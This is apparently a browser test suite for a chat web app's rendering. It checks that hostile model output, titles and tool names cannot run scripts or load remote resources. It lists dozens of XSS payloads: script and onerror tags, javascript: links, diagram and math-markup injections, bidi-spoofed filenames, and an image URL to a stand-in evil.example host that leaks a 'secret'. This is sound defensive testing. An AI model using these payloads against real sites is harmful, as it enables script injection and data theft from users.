import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { answer } from "../../src/testkit/scripted-reply.ts";
import { manyCases, testBrowser } from "../support/browser.ts";
import { answers, ended, newChat, picker, say } from "./parts.ts";

const serve = testBrowser();

const evil = "https://evil.example";

/** Every one of these tries to run a script, or to fetch something from elsewhere, as soon as it is shown. */
const hostile = [
  "<script>alert(1); ran = 1</script>",
  `<img src="${evil}/x.png" onerror="alert(1); ran = 1">`,
  "<img src=x onerror=alert(1)>",
  `<svg onload="alert(1)"><script>alert(1)</script><image href="${evil}/y.png"/></svg>`,
  `<iframe src="${evil}/frame" srcdoc="<script>parent.ran = 1</script>"></iframe>`,
  `<style>@import "${evil}/style.css"; body { background: url(${evil}/body.png) }</style>`,
  `<link rel="stylesheet" href="${evil}/link.css"><base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/">`,
  `<form action="${evil}/form"><button autofocus onfocus="ran = 1">Sign in</button></form>`,
  '<details open ontoggle="ran = 1"><summary>more</summary></details>',
  `<video src="${evil}/v.mp4" autoplay onerror="ran = 1"></video><audio src="${evil}/a.mp3"></audio>`,
  `![a picture](${evil}/z.png)`,
  `![a picture][ref]\n\n[ref]: ${evil}/ref.png`,
  '![x](x"onerror="ran=1)',
  "[plain](javascript:ran=1)",
  "[coded](&#106;avascript:ran=1)",
  "[broken](java\tscript:ran=1)",
  "[spaced]( javascript:ran=1)",
  "[upper](JaVaScRiPt:ran=1)",
  "[visual](vbscript:ran=1)",
  "[page](data:text/html,<script>opener.ran=1</script>)",
  "[drawing](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  "<javascript:ran=1>",
  "[here](/api/v1/me)",
  "[there](//evil.example/protocol-relative)",
  `\`\`\`mermaid\ngraph TD\nA --> B\nclick A "javascript:ran=1"\nclick B call ran()\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(${evil}/theme) }"}}%%\nflowchart TD\nA["<img src=${evil}/label.png onerror=parent.ran=1>"] --> B\nclick A href "javascript:parent.ran=1"\nstyle B fill:url(${evil}/fill)\n\`\`\``,
  `\`\`\`mermaid\n---\nconfig:\n  securityLevel: loose\n---\nsequenceDiagram\nA->>B: <script>parent.ran=1</script>\nlink A: go @ javascript:parent.ran=1\n\`\`\``,
  "```html\n<script>ran = 1</script>\n```",
  '```"onmouseover=ran=1\ncode\n```',
  `$$\\href{javascript:ran=1}{x}$$ $\\includegraphics{${evil}/tex.png}$`,
  `\\(\\htmlData{onclick=ran=1}{x} \\htmlStyle{background:url(${evil}/style)}{y}\\)`,
  `\\[\\url{javascript:ran=1} \\includegraphics{${evil}/tex2.png} \\unicode{<script>ran=1</script>}\\]`,
  "$$\\def\\a{\\a\\a}\\a$$",
  `$$${"{".repeat(5000)}$$`,
  "\\[\\rule{9999em}{9999em} \\kern{-9999em} \\raisebox{9999em}{over everything}\\]",
  "![svg](data:image/svg+xml,<svg/onload=ran=1>)",
  "![svg64](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  `![leak](${evil}/?secret=everything_that_was_said)`,
  `[![nested](${evil}/nested.png)](${evil}/nested)`,
  `<${evil}/\u202Egpj.exe>`,
  `[right\u202Eto left](${evil}/bidi)`,
  "https://еvil.example/cyrillic",
  "[#/t/hash](#/t/elsewhere)",
  `| <img src=${evil}/cell onerror=ran=1> | b |\n| --- | --- |\n| [c](javascript:ran=1) | d |`,
  `a footnote[^1]\n\n[^1]: <img src=${evil}/note onerror=ran=1>`,
].join("\n\n");

test("what others write", manyCases, async (t) => {
  const { open, as, upstream, url } = await serve(t);
  const page = await open();

  await t.test(
    "what a hostile model writes runs no script, opens no dialog, and fetches nothing, while it comes and after",
    async () => {
      const rest = Promise.withResolvers<void>();
      const letters = hostile.match(/[\s\S]{1,7}/g) ?? [];
      upstream.script(
        {
          steps: [
            { tokens: letters },
            { wait: rest.promise },
            { tokens: ["\n\nThe end."] },
            { finish: "stop" },
            { done: true },
          ],
        },
        answer("Fine."),
      );
      await say(page, '<img src="https://evil.example/mine" onerror="ran = 1"><script>ran = 1</script>');
      await answers(page).getByRole("table").waitFor();
      rest.resolve();
      await answers(page).getByText("The end.").waitFor();
      await ended(page);
      await page.reload();
      await answers(page).getByRole("table").waitFor();
      await answers(page).getByText("The end.").waitFor();

      assert.equal(await page.evaluate("typeof ran"), "undefined");
      const elements =
        "script, img, svg image, iframe, object, embed, style, link, base, form, video, audio, details";
      // The one kind of image is a diagram that was drawn here: a picture of itself, in which nothing can happen.
      await answers(page).locator(".drawing img").first().waitFor();
      assert.equal(await page.locator(`.messages :is(${elements}):not(.drawing > img)`).count(), 0);
      for (const drawing of await page.locator(".drawing > img").all()) {
        assert.match((await drawing.getAttribute("src")) ?? "", /^data:image\/svg\+xml,/);
      }
      const hrefs = (await page.evaluate(
        "[...document.querySelectorAll('.messages a:not(.note-link)')].map((a) => a.href + ' ' + a.target + ' ' + a.rel)",
      )) as string[];
      assert.ok(hrefs.length > 0, "the links that harm nobody are still links");
      for (const href of hrefs)
        assert.match(href, /^https:\/\/(?:evil|xn--vil-qdd)\.example\/\S+ _blank noopener noreferrer$/);
      const handlers =
        "[...document.querySelectorAll('.messages *')].filter((e) => [...e.attributes].some(({ name }) => name.startsWith('on'))).length";
      assert.equal(await page.evaluate(handlers), 0);

      // Every word that looks as if it did something, clicked.
      for (const word of [
        "plain",
        "coded",
        "spaced",
        "upper",
        "visual",
        "page",
        "drawing",
        "here",
        "there",
      ]) {
        await answers(page).getByText(word, { exact: true }).first().click();
      }
      assert.equal(await page.evaluate("typeof ran"), "undefined");
      assert.equal(page.context().pages().length, 1);
      assert.ok(page.url().startsWith(`${url}/#/t/`));
    },
  );

  await t.test(
    "a title that a stranger wrote is text in the list, in the header and among the hits",
    async () => {
      const title = "<img src=/t onerror=ran=1><b>bold</b>";
      await as("ada").say({ content: title });
      await page.getByRole("navigation").getByText(title).click();
      await page.getByRole("heading", { name: title, level: 1 }).waitFor();
      await page.getByRole("searchbox").fill("bold");
      await page.getByRole("region", { name: "Search results" }).getByRole("link").waitFor();
      assert.equal(await page.locator("img, b").count(), 0);
      assert.equal(await page.evaluate("typeof ran"), "undefined");
    },
  );

  await t.test("ten thousand levels of anything neither hang nor break the page", async () => {
    await newChat(page);
    const deep = 10_000;
    const texts = {
      quotes: `${">".repeat(deep)} x`,
      lists: `${"- ".repeat(deep)}x`,
      "lists and quotes": `${"> 1. ".repeat(deep)}x`,
      brackets: `${"[".repeat(deep)}x${"]".repeat(deep)}`,
      images: `${"![".repeat(deep)}x${"](a)".repeat(deep)}`,
      emphasis: `${"*a **b ".repeat(deep)}${"c** d*".repeat(deep)}`,
      "indented list": Array.from({ length: 500 }, (_, level) => `${"  ".repeat(level)}- x`).join("\n"),
      braces: `$$${"{".repeat(deep)}$$`,
      signs: "\\(\\[$$".repeat(deep),
      "a long line": "wordwithoutend".repeat(deep),
      "a long line of code": `\`\`\`js\n${"[{".repeat(deep)}\n\`\`\``,
      "a wide table": `|${"a|".repeat(2000)}\n|${"-|".repeat(2000)}\n|${"b|".repeat(2000)}`,
    };
    upstream.script(...Object.values(texts).map((text) => answer(`${text}\n\nDone.`)));
    page.setDefaultTimeout(60_000); // on a machine that is busy
    const devtools = await page.context().newCDPSession(page);
    await devtools.send("Performance.enable", { timeDomain: "threadTicks" });
    /** What the page has worked, in s; what else the machine does is not in it. */
    const worked = async () =>
      (await devtools.send("Performance.getMetrics")).metrics.find(({ name }) => name === "TaskDuration")
        ?.value ?? assert.fail("The browser tells no TaskDuration.");
    for (const name of Object.keys(texts)) {
      const before = await worked();
      await say(page, name);
      await answers(page).last().getByText("Done.").waitFor();
      await ended(page);
      const seconds = (await worked()) - before;
      assert.ok(seconds > 0 && seconds < 5, `${name}: ${seconds} s`);
    }
    await page.reload();
    await answers(page).last().getByText("Done.").waitFor();
  });
});

/** Names that others choose, each of which would do something if it were more than text. */
const hostileNames = [
  `<img src="${evil}/name.png" onerror="alert(1); ran = 1">`,
  "<script>alert(1); ran = 1</script>",
  `"><svg onload=ran=1><iframe src=${evil}/frame>`,
  "javascript:ran=1",
  "invoice\u202Efdp.exe",
  `[click](javascript:ran=1) ![x](${evil}/md.png)`,
  "{{constructor.constructor('ran=1')()}}",
  "x".repeat(900),
];

const namingProcessor = `
const names = ${JSON.stringify(hostileNames)};
const timestamp = "2026-02-03T04:05:06.000Z";
export default { role: "message_processor", name: "namer", priority: 10, create: () => ({
  async *processMessage(turn) {
    for (const [index, name] of names.entries()) {
      const call_id = String(index);
      yield [{ event: "tool_call", data: { call_id, name, arguments: JSON.stringify({ query: name }), timestamp } }];
      yield [{ event: "tool_update", data: { call_id, content: name, timestamp } }];
      yield [{ event: "tool_result", data: { call_id, content: name, timestamp } }];
      yield [{ event: "file", data: { file_id: name, name, media_type: name, timestamp } }];
    }
    yield [{ event: "message_tokens", data: { model: names[0], content: "All named.", timestamp } }];
  },
}) };
`;

test("whatever threads, prompts, models, tools and files are called is text, and stays in its place", async (t) => {
  const folder = mkdtempSync(join(tmpdir(), "skeleton-names-"));
  t.after(() => rmSync(folder, { recursive: true }));
  mkdirSync(join(folder, "core"));
  writeFileSync(join(folder, "core", "namer.ts"), namingProcessor);
  const prompts = Object.fromEntries(
    hostileNames.map((name) => [name, { content: name, description: name }]),
  );
  const { open, as, upstream, dataPath } = await serve(t, {
    plugins_path: folder,
    models: { list_ttl_ms: 0 },
  });
  writeFileSync(join(dataPath, "system_prompts.yaml"), JSON.stringify(prompts));
  upstream.models(hostileNames);
  for (const name of hostileNames) await as("ada").say({ content: name, model: "alpha-large" });
  for (const viewport of [
    { width: 1280, height: 800 },
    { width: 390, height: 844 },
  ]) {
    const page = await open({ viewport });
    const thread = (await as("ada").get<{ id: string }[]>("/api/v1/threads"))[0];
    await page.goto(`${page.url().replace(/#.*/, "")}#/t/${thread?.id}`);
    await answers(page).getByText("All named.").waitFor();
    for (const line of await answers(page).locator(".tool-call > button").all()) await line.click();
    assert.equal(await page.locator(".file-line").count(), hostileNames.length);
    assert.equal(await page.locator(".file-name").nth(4).textContent(), "invoicefdp.exe");
    for (const what of ["Model", "Prompt"] as const) {
      await picker(page, what).click();
      await page.getByRole("listbox", { name: what }).getByText("<script>alert(1)").first().waitFor();
      await page.keyboard.press("Escape");
    }
    await answers(page)
      .locator(".actions")
      .getByRole("button", { name: "Answer with another model" })
      .click();
    await page.getByRole("menuitem").first().waitFor();

    assert.equal(await page.evaluate("typeof ran"), "undefined");
    assert.equal(
      await page.locator("main :is(script, img, iframe, svg[onload], a[href^='javascript'])").count(),
      0,
    );
    const wider = `[document.scrollingElement, ...document.querySelectorAll(".scroller, .header, .sidebar-list")]
      .filter((one) => one.scrollWidth > one.clientWidth).map((one) => one.className)`;
    assert.deepEqual(await page.evaluate(wider), [], "nothing makes the page wider than the window");
  }
});

test("the policy of the page", async (t) => {
  const { open, url } = await serve(t);
  const page = await open({
    mayLog: /^(?:Executing inline event handler violates|Loading the image)/,
    mayAsk: /\/leak$/, // the attempt itself is reported as a request, though it never leaves the browser
  });

  await t.test("its own scripts are all it may run: what is put into it is stopped", async () => {
    const blocked = await page.evaluate(`new Promise((resolve) => {
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective));
    const image = new Image();
    image.setAttribute("onerror", "globalThis.ran = 1");
    image.src = "data:image/png;base64,broken";
    document.body.append(image);
  })`);
    assert.equal(blocked, "script-src-attr");
    assert.equal(await page.evaluate("typeof ran"), "undefined");
  });

  await t.test(
    "no image is loaded from elsewhere, allowed host or not, and its frames have no origin",
    async () => {
      const blocked = await page.evaluate(`new Promise((resolve) => {
    localStorage.setItem("skeleton.image-hosts", '["evil.example"]');
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective));
    new Image().src = "${evil}/leak";
  })`);
      assert.equal(blocked, "img-src");
      for (const [name, allowed] of [
        ["diagram", "style-src 'unsafe-inline'"],
        ["picture", "img-src https:"],
      ]) {
        const answered = await page.request.get(`${url}/frames/${name}`);
        assert.equal(
          answered.headers()["content-security-policy"],
          `default-src 'none'; script-src 'self'; ${allowed}; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; sandbox allow-scripts`,
        );
      }
    },
  );
});
